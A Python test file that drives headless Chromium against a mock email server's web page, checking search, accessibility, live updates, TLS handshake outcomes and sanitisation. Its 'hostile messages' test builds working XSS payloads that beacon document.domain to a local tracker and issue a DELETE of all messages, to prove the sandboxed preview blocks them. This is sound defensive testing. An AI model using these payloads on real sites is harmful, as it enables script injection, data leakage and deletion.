"""The web page, end to end in headless Chromium (Debian's ``chromium``, driven by Playwright).

Chromium is told to trust mockgun's certificate by its public key
(``--ignore-certificate-errors-spki-list``): no certificate error page gets in the way, and its
handshakes are ordinary TLS 1.3 ones (no "accept the risk" retries in the handshake log).
Screenshots of each view go to ``test-artifacts/screenshots/`` (``MOCKGUN_TEST_ARTIFACTS``).
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import os
import shutil
import socket
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from support import DEADLINE, MockgunProcess, inspect_json, start_mockgun, wait_for

from mockgun.certs import CertPaths

try:
    from playwright.sync_api import expect
except ImportError:  # the tests skip (or fail under CI) in the fixture
    expect = None  # type: ignore[assignment]

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

KEY = "key-browser-test"
PNG_1X1 = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
)
ARTIFACTS = Path(os.environ.get("MOCKGUN_TEST_ARTIFACTS", "test-artifacts")) / "screenshots"
CHROMIUM_ARGS = [
    "--no-sandbox",  # CI runs as root
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    # No calls home: this machine's network is closed and every refused one costs time.
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
]


def _chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    try:
        import playwright.sync_api  # noqa: F401, PLC0415 - optional: the test skips without it
    except ImportError:
        path = None
    if path is None:
        if os.environ.get("CI"):
            pytest.fail("Chromium or Playwright is missing: .ci/run installs both")
        pytest.skip("needs Chromium (Debian: apt install chromium) and the playwright package")
    return path


def _spki_hash(cert_file: Path) -> str:
    cert = x509.load_pem_x509_certificate(cert_file.read_bytes())
    spki = cert.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return base64.b64encode(hashlib.sha256(spki).digest()).decode()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, certs: CertPaths) -> Iterator[MockgunProcess]:
    proc = start_mockgun(
        tmp_path_factory.mktemp("ui"),
        certs.directory,
        "--api-key",
        KEY,
        "--handshake-timeout",
        "1",
    )
    yield proc
    assert proc.stop() == 0


@pytest.fixture(scope="module")
def browser(server: MockgunProcess, certs: CertPaths) -> Iterator[Any]:
    executable = _chromium()
    from playwright.sync_api import sync_playwright  # noqa: PLC0415 - see _chromium

    with sync_playwright() as pw:
        spki = f"--ignore-certificate-errors-spki-list={_spki_hash(certs.server_cert)}"
        chromium = pw.chromium.launch(executable_path=executable, args=[*CHROMIUM_ARGS, spki])
        yield chromium
        chromium.close()


class Page:
    """A browser tab signed in with the API key, recording script errors and dialogs."""

    def __init__(self, browser: Any, server: MockgunProcess, *, credentials: bool = True) -> None:
        self.server = server
        self.context = browser.new_context(
            viewport={"width": 1280, "height": 800},
            http_credentials={"username": "api", "password": KEY} if credentials else None,
            accept_downloads=True,
        )
        self.context.set_default_timeout(DEADLINE * 1000)
        self.page = self.context.new_page()
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        #: What "OK or Cancel?" gets: Cancel unless a test says otherwise.
        self.accept_dialogs = False
        self.page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        self.page.on("dialog", self._dialog)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.accept() if self.accept_dialogs else dialog.dismiss()

    def open(self, fragment: str = "") -> Any:
        response = self.page.goto(f"{self.server.base_url}/{fragment}")
        self.page.wait_for_selector("#live.good")  # the live stream is connected
        return response

    def screenshot(self, name: str, *, full_page: bool = False) -> None:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=full_page)

    def texts(self, selector: str) -> list[str]:
        return [str(t) for t in self.page.locator(selector).all_inner_texts()]


@pytest.fixture
def tab(browser: Any, server: MockgunProcess) -> Iterator[Page]:
    page = Page(browser, server)
    yield page
    page.context.close()
    assert page.errors == [], "the page threw"


def message_rows(tab: Page) -> Any:
    return tab.page.locator("#messages tbody tr[data-id]")


def send(server: MockgunProcess, domain: str = "shop.example", **fields: Any) -> str:
    files = fields.pop("files", None)
    data = {"from": "Shop <orders@shop.example>", "to": "ann@example.org", "text": "Hi", **fields}
    resp = requests.post(
        f"{server.base_url}/v3/{domain}/messages",
        data=data,
        files=files,
        auth=("api", KEY),
        verify=str(server.ca_file),
        timeout=10,
    )
    assert resp.status_code == 200, resp.text
    return str(resp.json()["id"]).strip("<>")


def inspect(server: MockgunProcess, path: str) -> Any:
    return inspect_json(server.base_url, server.ca_file, path, KEY)


def clear(server: MockgunProcess) -> None:
    requests.delete(
        f"{server.base_url}/mockgun/messages",
        auth=("api", KEY),
        verify=str(server.ca_file),
        timeout=10,
    ).raise_for_status()


# ---- messages -----------------------------------------------------------------------------


def test_messages_are_listed_searched_and_opened(tab: Page, server: MockgunProcess) -> None:
    clear(server)
    send(server, subject="Invoice 1042", **{"o:tag": "billing"}, domain="shop.example")
    send(
        server,
        subject="Welcome aboard",
        to="bob@example.org",
        **{"o:tag": "onboarding"},
        domain="hello.example",
    )
    invoice = send(
        server,
        subject="Invoice 1043",
        **{"o:tag": "billing", "h:X-Order": "1043"},
        html='<h1>Your invoice</h1><p>Total: <b>42 EUR</b></p><img src="cid:logo.png" alt="logo">',
        text="Total: 42 EUR",
        files=[
            ("attachment", ("invoice-1043.pdf", b"%PDF-1.4 fake", "application/pdf")),
            ("inline", ("logo.png", base64.b64decode(PNG_1X1), "image/png")),
        ],
    )
    response = tab.open()
    assert response.url.endswith("/mockgun/")  # "/" leads to the page
    subjects = "#messages tbody tr[data-id] td:nth-child(2)"
    expect(message_rows(tab)).to_have_count(3)
    assert tab.texts(subjects) == ["Invoice 1043", "Welcome aboard", "Invoice 1042"]  # newest first
    tab.screenshot("messages")

    tab.page.fill("#q", "billing")  # a tag
    expect(message_rows(tab)).to_have_count(2)
    assert tab.texts(subjects) == ["Invoice 1043", "Invoice 1042"]
    tab.page.fill("#q", "bob@")  # a recipient
    expect(message_rows(tab)).to_have_count(1)
    assert tab.texts(subjects) == ["Welcome aboard"]
    tab.page.fill("#q", "")
    tab.page.select_option("#domain", "hello.example")
    expect(message_rows(tab)).to_have_count(1)
    assert tab.texts(subjects) == ["Welcome aboard"]
    tab.page.select_option("#domain", "")
    tab.page.fill("#q", "nothing-matches-this")
    tab.page.wait_for_selector("#messages tbody td:has-text('No message matches.')")

    tab.page.fill("#q", "1043")
    tab.page.click("#messages tbody tr[data-id] a")
    tab.page.wait_for_selector("#message-headers tbody tr")
    assert tab.page.inner_text("#h-message") == "Invoice 1043"
    meta = tab.page.inner_text("#message-meta")
    detail = inspect(server, f"/mockgun/messages/{invoice}")
    assert detail["tls"]["version"] == "TLSv1.3"  # requests negotiated it; the page says so
    assert f"{detail['tls']['version']}, {detail['tls']['cipher']}" in meta
    assert "Orders" not in meta and "orders@shop.example" in meta
    names, values = tab.texts("#message-headers th"), tab.texts("#message-headers td")
    headers = dict(zip(names, values, strict=True))
    assert headers["Subject"] == "Invoice 1043" and headers["X-Order"] == "1043"
    assert tab.page.inner_text("#message-text") == "Total: 42 EUR"
    frame = tab.page.frame_locator("#message-html")
    assert frame.locator("h1").inner_text() == "Your invoice"
    logo = frame.locator("img[alt=logo]")  # cid: shown from the inline part, with the key
    wait_for(lambda: logo.evaluate("i => i.complete && i.naturalWidth") == 1, what="the logo")
    assert tab.texts("#message-events tbody td:nth-child(2)") == ["accepted", "delivered"]
    with tab.page.expect_download() as download:
        tab.page.click("#message-attachments a >> nth=0")
    assert Path(download.value.path()).read_bytes() == b"%PDF-1.4 fake"
    tab.page.click("#h-raw + p + details summary")
    raw = tab.page.inner_text("#message-raw")
    assert "Subject: Invoice 1043" in raw and "X-Order: 1043" in raw
    tab.screenshot("message", full_page=True)


def test_each_recipients_copy_is_previewed_as_they_received_it(
    tab: Page, server: MockgunProcess
) -> None:
    clear(server)
    batch = send(
        server,
        subject="Your code",
        to="ann@example.org, bob@example.org",
        html="<p>Hello %recipient.first%, your code is <b>%recipient.code%</b></p>",
        **{
            "recipient-variables": '{"ann@example.org": {"first": "Ann", "code": "A1"},'
            ' "bob@example.org": {"first": "Bob", "code": "B2"}}'
        },
    )
    tab.open(f"mockgun/#/messages/{batch}")
    tab.page.wait_for_selector("#message-recipient-row:not([hidden])")
    frame = tab.page.frame_locator("#message-html")
    expect(frame.locator("p")).to_have_text("Hello Ann, your code is A1")
    tab.page.select_option("#message-recipient", "bob@example.org")
    expect(frame.locator("p")).to_have_text("Hello Bob, your code is B2")
    tab.screenshot("message-per-recipient")


def test_keyboard_alone_finds_and_opens_a_message(tab: Page, server: MockgunProcess) -> None:
    clear(server)
    send(server, subject="Keyboard one")
    send(server, subject="Keyboard two")
    tab.open()
    tab.page.wait_for_selector("#messages tbody tr[data-id]")

    def tab_to(predicate: str, limit: int = 15) -> None:
        for _ in range(limit):
            tab.page.keyboard.press("Tab")
            if tab.page.evaluate(predicate):
                return
        raise AssertionError(f"Tab never reached {predicate}")

    tab_to("document.activeElement.id === 'q'")
    tab.page.keyboard.type("one")
    expect(message_rows(tab)).to_have_count(1)
    tab_to("document.activeElement.closest('#messages tbody') !== null")
    tab.page.keyboard.press("Enter")
    expect(tab.page.locator("#h-message")).to_be_focused()  # focus follows
    expect(tab.page.locator("#h-message")).to_have_text("Keyboard one")
    tab.page.keyboard.press("Shift+Tab")  # back to "All messages"
    tab.page.keyboard.press("Enter")
    expect(tab.page.locator("#q")).to_be_focused()
    assert tab.page.is_visible("#view-messages")


CONTRAST = """
(selectors) => {
  const rgb = (c) => c.match(/\\d+(\\.\\d+)?/g).slice(0, 3).map(Number);
  const lum = ([r, g, b]) => {
    const f = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
    return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
  };
  const background = (el) => {
    for (; el; el = el.parentElement) {
      const c = getComputedStyle(el).backgroundColor;
      if (c && !c.startsWith("rgba(0, 0, 0, 0)") && c !== "transparent") return c;
    }
    return "rgb(255, 255, 255)";
  };
  return selectors.map((s) => {
    const el = document.querySelector(s);
    if (!el) return [s, 0];
    const a = lum(rgb(getComputedStyle(el).color)), b = lum(rgb(background(el)));
    return [s, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)];
  });
}
"""


def test_text_has_readable_contrast(tab: Page, server: MockgunProcess) -> None:
    send(server, subject="Contrast", **{"o:tag": "contrast"})
    tab.open()
    tab.page.wait_for_selector("#messages .badge.tag")
    checked = [
        "#messages tbody td",
        "#messages .badge.tag",
        "#messages-summary",
        "#live",
        "#nav-messages",
        "#messages thead th",
        "#messages tbody a",
    ]
    tab.page.goto(f"{server.base_url}/mockgun/#/handshakes")
    tab.page.wait_for_selector("#handshakes .badge")
    checked_hs = ["#handshakes .badge", "#handshakes-summary", "figcaption", "#clients tbody td"]
    ratios = dict(tab.page.evaluate(CONTRAST, checked_hs))
    tab.page.goto(f"{server.base_url}/mockgun/#/messages")
    tab.page.wait_for_selector("#messages .badge.tag")
    ratios.update(dict(tab.page.evaluate(CONTRAST, checked)))
    low = {s: round(r, 2) for s, r in ratios.items() if r < 4.5}
    assert not low, f"below WCAG AA 4.5:1: {low}"


def test_each_view_passes_axe(browser: Any, server: MockgunProcess, node_modules: Path) -> None:
    """axe-core (the accessibility engine browsers' dev tools use) on every view: no serious
    or critical violation. Only this check's tab bypasses the page's CSP, to inject axe."""
    axe = (node_modules / "axe-core" / "axe.min.js").read_text()
    clear(server)
    message_id = send(server, subject="Accessible", html="<p>Hi</p>", **{"o:tag": "a11y"})
    context = browser.new_context(
        http_credentials={"username": "api", "password": KEY},
        bypass_csp=True,
        viewport={"width": 1280, "height": 800},
    )
    try:
        page = context.new_page()
        found = {}
        for view, ready in (
            ("#/messages", "#messages tbody tr[data-id]"),
            (f"#/messages/{message_id}", "#message-headers tbody tr"),
            ("#/handshakes", "#handshakes tbody tr[data-outcome]"),
        ):
            page.goto(f"{server.base_url}/mockgun/{view}")
            page.wait_for_selector(ready)
            page.add_script_tag(content=axe)
            result = page.evaluate("async () => (await axe.run(document)).violations")
            found[view] = [
                f"{v['id']} ({v['impact']}): {v['help']} x{len(v['nodes'])}"
                for v in result
                if v["impact"] in ("serious", "critical")
            ]
        assert found == {view: [] for view in found}
    finally:
        context.close()


# ---- live updates -------------------------------------------------------------------------


def _legacy_client(server: MockgunProcess) -> None:
    """A real TLS 1.0 ClientHello (SECLEVEL=0 lets OpenSSL offer it), refused by mockgun."""
    ctx = ssl.create_default_context(cafile=str(server.ca_file))
    ctx.minimum_version = ctx.maximum_version = ssl.TLSVersion.TLSv1
    ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    with sock, pytest.raises(ssl.SSLError):
        ctx.wrap_socket(sock, server_hostname="localhost")


def test_live_updates_arrive_without_a_reload(tab: Page, server: MockgunProcess) -> None:
    """Each change is made after the page has shown the state before it, and the page never
    polls: what appears afterwards came over the live stream."""
    clear(server)
    tab.open()
    tab.page.wait_for_selector("#messages tbody td:has-text('No messages yet.')")
    tab.page.evaluate("window.__sameDocument = true")
    message_id = send(server, subject="Arrived live")
    tab.page.wait_for_selector("#messages tbody tr[data-id] :text('Arrived live')")
    expect(tab.page.locator("#count-messages")).to_have_text("1")

    tab.page.click("#messages tbody tr[data-id] a")
    tab.page.wait_for_selector("#message-events tbody tr:has-text('delivered')")
    resp = requests.post(
        f"{server.base_url}/mockgun/events/shop.example/opened/{message_id}",
        auth=("api", KEY),
        verify=str(server.ca_file),
        timeout=10,
    )
    assert resp.status_code == 201
    tab.page.wait_for_selector("#message-events tbody tr:has-text('opened')")

    tab.page.click("#nav-handshakes")
    tab.page.wait_for_selector("#handshakes tbody tr[data-outcome=ok]")
    before = len(inspect(server, "/mockgun/handshakes?outcome=rejected")["items"])
    tab.page.select_option("#outcome", "rejected")
    others = tab.page.locator("#handshakes tbody tr[data-outcome]:not([data-outcome=rejected])")
    expect(others).to_have_count(0)  # the filtered table is on the page
    rows = tab.page.locator("#handshakes tbody tr[data-outcome=rejected]")
    assert rows.count() == before
    _legacy_client(server)
    wait_for(lambda: rows.count() > before, what="the new refusal on the page")
    assert tab.page.evaluate("window.__sameDocument") is True  # no reload happened


def test_an_open_message_that_is_cleared_says_so(tab: Page, server: MockgunProcess) -> None:
    message_id = send(server, subject="Soon gone", html="<p>bye</p>")
    tab.open(f"mockgun/#/messages/{message_id}")
    expect(tab.page.locator("#h-message")).to_have_text("Soon gone")
    clear(server)  # a test suite's next test starts with DELETE /mockgun/messages
    expect(tab.page.locator("#h-message")).to_have_text("This message is no longer stored")
    assert not tab.page.is_visible("#message-html")
    assert not tab.page.is_visible("#notice")  # not an error: it just is not there any more


def test_delete_all_asks_first(tab: Page, server: MockgunProcess) -> None:
    clear(server)
    send(server, subject="Keep or delete")
    tab.open()
    expect(message_rows(tab)).to_have_count(1)
    tab.page.click("#delete-all")
    wait_for(lambda: tab.dialogs, what="the confirmation")
    assert tab.dialogs == ["Delete every stored message and its events?"]
    assert inspect(server, "/mockgun/messages")["total"] == 1  # cancelled: nothing deleted
    tab.accept_dialogs = True
    tab.page.click("#delete-all")
    tab.page.wait_for_selector("#messages tbody td:has-text('No messages yet.')")
    assert inspect(server, "/mockgun/messages")["total"] == 0


# ---- handshakes ---------------------------------------------------------------------------


#: The first bytes of a ClientHello, and then nothing: mockgun times the handshake out.
HALF_A_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def _one_of_each_outcome(server: MockgunProcess) -> None:
    def count(outcome: str) -> int:
        return len(inspect(server, f"/mockgun/handshakes?outcome={outcome}")["items"])

    before = {o: count(o) for o in ("ok", "rejected", "failed", "not_tls", "closed", "timeout")}
    inspect(server, "/mockgun/health")  # ok
    _legacy_client(server)  # rejected
    untrusting = ssl.create_default_context()  # does not know mockgun's CA: aborts
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    with sock, pytest.raises(ssl.SSLCertVerificationError):
        untrusting.wrap_socket(sock, server_hostname="localhost")  # failed
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")  # not_tls
        assert sock.recv(100).startswith(b"HTTP/1.1 400")
    socket.create_connection(("127.0.0.1", server.port), timeout=10).close()  # closed
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as slow:
        slow.sendall(HALF_A_HELLO)  # timeout (after mockgun's 1 s)
        wait_for(lambda: count("timeout") > before["timeout"], what="a handshake timeout")
    wait_for(
        lambda: all(count(o) > n for o, n in before.items()), what="one handshake of each outcome"
    )


def test_handshakes_view_shows_each_outcome_clients_and_chart(
    tab: Page, server: MockgunProcess
) -> None:
    _one_of_each_outcome(server)
    tab.open("mockgun/#/handshakes")
    tab.page.wait_for_selector("#handshakes tbody tr[data-outcome=timeout]")
    shown = set(tab.texts("#handshakes tbody tr[data-outcome] td:nth-child(3) .badge"))
    assert {"ok", "rejected", "failed", "not_tls", "closed", "timeout"} <= shown

    rejected = tab.page.locator("#handshakes tbody tr[data-outcome=rejected]").first
    assert "TLSv1.0" in rejected.inner_text()  # what the refused client offered
    assert tab.page.locator("#clients tbody tr.legacy :text('legacy TLS')").count() >= 1
    assert tab.page.locator("#clients tbody td:has-text('TLSv1.3')").count() >= 1
    # Each client is named (by its User-Agent, or the shipped fingerprint table).
    names = tab.page.locator("#clients tbody tr td:first-child").all_inner_texts()
    assert names and all(name.strip() for name in names), names
    assert any("Chrome" in name for name in names), names  # this page's own connections

    # The chart: bars per negotiated version, and refusals in red.
    refused = tab.page.locator("#chart rect[data-series=refused]")
    assert refused.count() >= 1 and refused.first.get_attribute("fill") == "#cf222e"
    assert tab.page.locator("#chart rect[data-series='TLSv1.3']").count() >= 1
    assert "refused" in tab.page.inner_text("#chart-legend")
    tab.page.set_viewport_size({"width": 1280, "height": 1150})  # the chart, clients and attempts
    tab.screenshot("handshakes")

    tab.page.select_option("#outcome", "rejected")
    expect(tab.page.locator("#handshakes tbody tr:not([data-outcome=rejected])")).to_have_count(0)
    expect(tab.page.locator("#handshakes tbody tr[data-outcome=rejected]").first).to_be_visible()
    tab.page.select_option("#outcome", "timeout")
    expect(tab.page.locator("#handshakes tbody tr:not([data-outcome=timeout])")).to_have_count(0)
    expect(tab.page.locator("#handshakes tbody tr[data-outcome=timeout]").first).to_be_visible()


# ---- hostile messages ---------------------------------------------------------------------


class _Tracker(http.server.ThreadingHTTPServer):
    """A plain-HTTP server on loopback that records every request a message makes."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


def _hostile(tracker: str) -> str:
    beacon = f"new Image().src='{tracker}/script-ran?'+document.domain"
    bare = f"fetch('{tracker}/script-ran-unquoted')"  # no spaces: fits an unquoted attribute
    return (
        "<h1>Totally normal invoice</h1>"
        f"<script>{beacon};alert('script');fetch('/mockgun/messages',{{method:'DELETE'}})</script>"
        f'<img src="x" onerror="{beacon};alert(\'onerror\')">'
        f'<img src="{tracker}/pixel.gif" alt="pixel">'
        f'<svg onload="{beacon}"></svg>'
        f'<a id="evil" href="javascript:{beacon}">Click me</a>'
        f'<iframe srcdoc="<script>{beacon}</script>"></iframe>'
        f"<div style=\"background:url('{tracker}/bg.png')\">styled</div>"
        # Where parsers disagree (foreign content, noscript), sanitisers slip (both run
        # in the control):
        f'<svg><style><img src="x" onerror="{beacon}"></style></svg>'
        f'<noscript><p title="</noscript><img src=x onerror={bare}>"></noscript>'
    )


def test_a_hostile_html_body_cannot_run_script(
    browser: Any, tab: Page, server: MockgunProcess
) -> None:
    tracker = _Tracker()
    try:
        # Each phase calls home under its own path: a late beacon from the control (its
        # srcdoc frame, say) must not be mistaken for one from mockgun's page.
        # Control: the same body in an unprotected page does run script and phone home, so
        # the checks below would catch a page that let it.
        control = Page(browser, server)
        control.page.set_content(_hostile(f"{tracker.url}/control"))
        wait_for(lambda: "/control/pixel.gif" in tracker.hits, what="the control's image")
        wait_for(
            lambda: any(h.startswith("/control/script-ran") for h in tracker.hits),
            what="the control's script",
        )
        assert control.dialogs
        control.context.close()

        message_id = send(server, subject="Hostile", html=_hostile(f"{tracker.url}/mockgun"))
        tab.open(f"mockgun/#/messages/{message_id}")
        frame_element = tab.page.wait_for_selector("#message-html")
        assert frame_element.get_attribute("sandbox") == ""  # no allow-scripts, no same-origin
        frame = frame_element.content_frame()
        assert frame is not None
        frame.wait_for_selector("h1:text('Totally normal invoice')")
        frame.wait_for_load_state("load")  # every image and style it kept has been tried
        frame.click("#evil")  # its javascript: URL is gone; a click does nothing
        # Opened on its own (not framed), the preview still runs nothing.
        preview = Page(browser, server)
        preview.page.goto(f"{server.base_url}/mockgun/messages/{message_id}/html")
        preview.page.wait_for_load_state("load")
        assert preview.page.locator("h1").inner_text() == "Totally normal invoice"
        preview_dialogs = preview.dialogs
        preview.context.close()
        # The page and the preview finished loading (and a sync round trip to the page
        # follows them), so script that could run would have by now.
        assert tab.page.evaluate("document.title") == "mockgun"
        reached = [h for h in tracker.hits if h.startswith("/mockgun")]
        assert reached == [], f"the message reached out: {reached}"
        assert tab.dialogs == [] and preview_dialogs == []
        assert inspect(server, "/mockgun/messages?subject=Hostile")["total"] == 1  # not deleted
        blocked = frame.locator("img[alt=pixel]")
        assert (
            blocked.get_attribute("data-mockgun-blocked-src") == f"{tracker.url}/mockgun/pixel.gif"
        )
        tab.screenshot("hostile-message")
    finally:
        tracker.shutdown()
        tracker.server_close()


def test_without_the_key_the_browser_gets_nothing(browser: Any, server: MockgunProcess) -> None:
    send(server, subject="Private subject")
    anonymous = Page(browser, server, credentials=False)
    try:
        # The same browser, from the one open page, asking the API the page would use:
        anonymous.page.goto(f"{server.base_url}/mockgun/health")
        status, body = anonymous.page.evaluate(
            "async () => { const r = await fetch('/mockgun/messages', {credentials: 'omit'});"
            " return [r.status, await r.text()]; }"
        )
        assert (status, body) == (401, "Forbidden")
        # Asked for credentials it does not have, headless Chromium gives up on the page.
        with pytest.raises(Exception, match="ERR_INVALID_AUTH_CREDENTIALS"):
            anonymous.page.goto(f"{server.base_url}/mockgun/")
    finally:
        anonymous.context.close()
